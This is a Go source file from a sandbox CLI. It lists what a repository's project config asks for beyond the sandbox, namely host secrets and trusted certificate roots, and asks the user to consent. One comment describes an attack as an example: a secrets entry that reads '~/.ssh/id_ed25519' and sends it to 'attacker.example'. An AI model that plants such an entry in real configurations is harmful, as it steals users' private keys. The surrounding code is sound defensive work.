package cli

import (
	"errors"
	"fmt"
	"os"
	"sort"
	"strings"

	"golang.org/x/term"

	"moat.dev/moat/internal/config"
)

// projectAsks lists what a project file (a moat.toml that came with a
// repository, not the user's own config.toml) asks for that reaches
// beyond the sandbox: secrets, which read the host's environment, files or
// commands and send the result to hosts the file names, and extra roots
// the gate would accept from upstreams. A repository must not be able to
// do either without the user's consent (ATTACKS 29): a [secrets] entry
// with from = "file:~/.ssh/id_ed25519" and hosts = ["attacker.example"]
// would otherwise hand the key to whoever wrote the file, and "command:"
// would run on the host.
func projectAsks(cfg config.Config, userConfig string) []string {
	var out []string
	for _, s := range cfg.Secrets {
		if s.Source == userConfig || s.Source == "" {
			continue
		}
		out = append(out, fmt.Sprintf("%s: secret %s reads %s on the host and sends it to %s",
			s.Source, s.Name, s.From, strings.Join(s.Hosts, ", ")))
	}
	sort.Strings(out) // secrets first, by file and name; then roots in file order
	for _, l := range cfg.Network.Layers {
		if l.Source == userConfig || len(l.Trust) == 0 {
			continue
		}
		out = append(out, fmt.Sprintf("%s: network.trust makes the gate accept upstream certificates signed by %s",
			l.Source, strings.Join(l.Trust, ", ")))
	}
	return out
}

// errNotAccepted is returned when the user declines a project's requests.
var errNotAccepted = errors.New("not created: the project's configuration was not accepted")

// consent asks the user to accept what the project file asks for, on a
// terminal; elsewhere it needs --trust-project. The sandbox snapshots its
// configuration at create, so consent is asked once per sandbox, and
// again only after `moat destroy`.
func (e *env) consent(cfg config.Config) error {
	asks := projectAsks(cfg, e.dirs.UserConfig())
	if len(asks) == 0 || e.trustProject {
		return nil
	}
	list := "    " + strings.Join(asks, "\n    ")
	if !term.IsTerminal(int(os.Stdin.Fd())) {
		return codef(ExitUsage, "the project's configuration asks for more than a sandbox:\n%s\n"+
			"read it, then accept with --trust-project (moat run --trust-project ...), or move these entries to %s",
			list, e.dirs.UserConfig())
	}
	fmt.Fprintf(os.Stderr, "The project's configuration asks for more than a sandbox:\n%s\nAccept? [y/N] ", list)
	var answer string
	fmt.Scanln(&answer)
	if a := strings.ToLower(answer); a != "y" && a != "yes" {
		return withCode(ExitUsage, errNotAccepted)
	}
	return nil
}
